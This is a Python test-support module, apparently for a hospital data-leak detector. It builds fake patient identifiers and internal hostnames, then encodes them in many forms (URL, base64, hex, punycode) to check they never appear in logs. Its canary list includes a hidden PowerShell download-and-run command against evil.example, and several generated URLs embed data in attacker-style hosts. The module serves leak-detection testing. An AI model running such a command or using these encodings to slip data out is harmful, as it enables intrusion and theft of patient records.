"""What must never leave a hospital, in every dress that a log or a report could put it into."""

import base64
import re
from collections.abc import Iterator
from urllib.parse import quote, unquote_to_bytes

import idna

# Recognisable by what it is made of: masked, wherever it stands.
RECOGNISABLE = (
    "1101700203451",  # a citizen's number
    "1-1017-00203-45-1",
    "HN6500123",
    "0812345678",
    "สมชายใจดี",
    "นางสาว สมหญิง รักดี",
    "somchai@hospital.example",
    "๑๑๐๑๗๐๐๒๐๓๔๕๑",
)
# Only known by where it stands: alone in a field, never part of what is shared.
KNOWN_BY_PLACE = (
    "10.20.3.41",
    "192.168.7.9",
    "fd00::20:3:41",
    "pc-somchai",
    "pc-somchai.hosp.local",
    r"HOSP\somchai.j",
    r"C:\Users\somchai\Desktop\lab-result.docx",
    "/home/somchai/.ssh/id_ed25519",
    "lab-result.docx",
    "powershell -nop -w hidden iwr http://evil.example/a.ps1",
    "SELECT fname FROM patient WHERE hn = '6500123'",
    "GET /search?q=hiv HTTP/1.1",
)


def dresses(canary: str) -> Iterator[str]:
    """Yield a canary as logs may write it."""
    raw = canary.encode()
    yield canary
    yield canary.upper()
    yield canary.title()
    yield quote(canary, safe="")
    yield quote(quote(canary, safe=""), safe="")
    yield "".join(f"%{byte:02x}" for byte in raw)
    yield base64.b64encode(raw).decode()
    yield base64.urlsafe_b64encode(raw).decode().rstrip("=")
    yield raw.hex()
    yield raw.hex().upper()
    try:
        yield "xn--" + canary.encode("punycode").decode()
        yield idna.alabel(canary).decode()
    except (idna.IDNAError, UnicodeError):
        return


def settings_of(dress: str) -> Iterator[str]:
    """Yield what a field that is meant for network observables may hold, a canary in it."""
    yield dress
    yield f"http://evil.example/{dress}"
    yield f"http://evil.example/a/{dress}/b.php"
    yield f"HTTP://EVIL.example/x?hn={dress}"
    yield f"https://evil.example/a;{dress}=1"
    yield f"https://{dress}.evil.example/"
    yield f"https://{dress}@evil.example/"
    yield f"https://user:{dress}@evil.example:8443/a"
    yield f"https://evil.example/#{dress}"
    yield f"{dress}.evil.example"
    yield f"evil.example:{dress}"
    yield f"203.0.113.7:{dress}"
    yield f"SHA256={dress},MD5={'a' * 31}b"
    yield f"ftp://evil.example//{dress}%2F..%2f"


def traces(canary: str, told: bytes) -> list[str]:
    """Return what of a canary can be read in a message, however it is written there."""
    text = told.decode().lower()
    plain = _unwrapped(told).lower()
    found = [dress for dress in _readable(canary) if dress in text or dress in plain]
    digits = re.sub(r"\D", "", canary)
    if len(digits) >= 6 and digits in re.sub(r"[-._ ]", "", plain):
        found.append(digits)
    return found


def _readable(canary: str) -> Iterator[str]:
    raw = canary.lower().encode()
    yield canary.lower()
    yield raw.hex()
    yield "".join(f"%{byte:02x}" for byte in raw)
    yield canary.lower().encode("unicode_escape").decode()
    for case in (canary, canary.lower(), canary.upper(), canary.title()):
        for shift in range(3):
            # The middle of the base64 of anything that has the canary at this place.
            middle = base64.b64encode(b"\0" * shift + case.encode())[4:-4].decode().lower()
            if len(middle) >= 6:
                yield middle
    if not canary.isascii():
        try:
            yield idna.alabel(canary).decode()
        except idna.IDNAError:
            return


def _unwrapped(told: bytes) -> str:
    for _ in range(6):
        told = unquote_to_bytes(told)
    return told.decode("utf-8", "replace")
